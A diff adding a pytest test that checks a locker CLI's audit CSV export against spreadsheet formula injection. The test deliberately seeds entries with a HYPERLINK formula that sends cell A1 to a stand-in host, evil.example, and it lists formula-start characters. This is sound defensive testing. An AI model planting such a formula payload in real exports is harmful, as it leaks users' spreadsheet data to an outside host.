@@ -106,3 +106,22 @@ def test_audit_export_into_a_missing_directory_fails_cleanly(
 ):
     result = ready.run("audit", "export", "--output", str(tmp_path / "no-such-dir" / "a.csv"))
     assert_clean_failure(result, "no-such-dir")
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+def test_audit_export_shows_typed_formulas_as_text_in_a_spreadsheet(ready: LockerCli, start):
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    with ready.context() as ctx:
+        ctx.store.append_audit(
+            f"{start}admin", "door.forced", formula, {"reason": formula}, ctx.clock.now()
+        )
+    result = ready.ok("audit", "export")
+    header, *rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
+    last = dict(zip(header, rows[-1], strict=True))
+    assert last["subject"] == "'" + formula
+    assert last["actor"] == f"'{start}admin"
+    assert json.loads(last["details"]) == {"reason": formula}  # inside JSON it cannot run
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
